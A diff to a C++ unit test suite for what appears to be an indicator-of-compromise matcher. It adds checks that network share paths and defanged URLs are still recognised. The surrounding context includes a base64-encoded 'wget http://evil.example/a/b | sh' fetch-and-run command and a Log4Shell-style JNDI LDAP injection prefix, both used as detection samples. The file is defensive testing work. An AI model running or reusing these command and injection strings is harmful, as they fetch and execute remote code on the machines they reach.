@@ -159,6 +159,20 @@ TEST(IndicatorMarks, WhatStandsBesideEscapesOfBytesAndNamesOfHtmlIsFound) {
   EXPECT_FALSE(is_found(Kind::file_name, "25.exe", "C:\\x\\U0001F525.exe"));
 }
 
+TEST(IndicatorMarks, SharesOfHostsAreFoundHoweverTheyAreWritten) {
+  for (const char* value :
+       {R"(-Path:\\\\srv\\share\\x.exe)", R"(-Path:\\srv\share\x.exe)", R"(file:_\\srv\share\x.exe)",
+        R"(f=\\srv\share\x.exe)", "//srv/share/x.exe", "file://srv/share/x.exe", "open smb://SRV/share/x.exe now",
+        R"(\Device\Mup\srv\share\x.exe)", R"(\\?\UNC\srv\share\x.exe)"})
+    EXPECT_TRUE(is_found(Kind::path, R"(\\srv\share\x.exe)", value)) << value;
+  for (const char* value : {R"(\\srv\c$\x\a.exe)", "//srv/C$/x/a.exe", R"(\Device\Mup\srv\c$\x\a.exe)"})
+    EXPECT_TRUE(is_found(Kind::path, R"(C:\x\a.exe)", value)) << value;
+  EXPECT_TRUE(is_found(Kind::path, R"(\\srv\c$\x\a.exe)", R"(\\srv\c$\x\a.exe)"));
+  EXPECT_FALSE(is_found(Kind::path, R"(\\srv\x.exe)", "http://srv/x.exe"));
+  EXPECT_FALSE(is_found(Kind::path, R"(\\x\a.exe)", R"(C:\\x\\a.exe)"));
+  EXPECT_TRUE(is_found(Kind::path, R"(C:\x\a.exe)", R"(C:\\x\\a.exe)"));
+}
+
 TEST(IndicatorMarks, TextsInBase64AreFoundBehindWhatBase64MayHoldItself) {
   const std::string said = "d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL2EvYiB8IHNo";  // wget http://evil.example/a/b | sh
   for (const char* before : {"${jndi:ldap://192.0.2.7:1389/Basic/Command/Base64/", "x+", "data=", "/"}) {
@@ -173,6 +187,9 @@ TEST(IndicatorMarks, UrlsAreFoundBeforeLinesAndFragmentsAndBehindUsers) {
         "http://bob@a.example/x.js|y", "(http://a.example/x.js:word)"}) {
     EXPECT_EQ(is_found(Kind::url, "http://a.example/x.js", value), !std::string(value).ends_with("?y")) << value;
   }
+  for (const char* value : {"see hxxp://a.example/x", "hXXp[:]//a[.]example/x", "hxxp://joe@a.example/x"})
+    EXPECT_TRUE(is_found(Kind::url, "http://a.example/x", value)) << value;
+  EXPECT_TRUE(is_found(Kind::url, "https://a.example/x", "HXXPS://a.example/x,"));
   EXPECT_TRUE(is_found(Kind::url, "http://a.example:8080/x", "http://u:p@a.example:8080/x:7"));
   EXPECT_TRUE(is_found(Kind::url, "http://bob@a.example/x", "http://bob@a.example/x"));
   EXPECT_TRUE(is_found(Kind::url, "http://a.example/x#top", "http://a.example/x#top"));
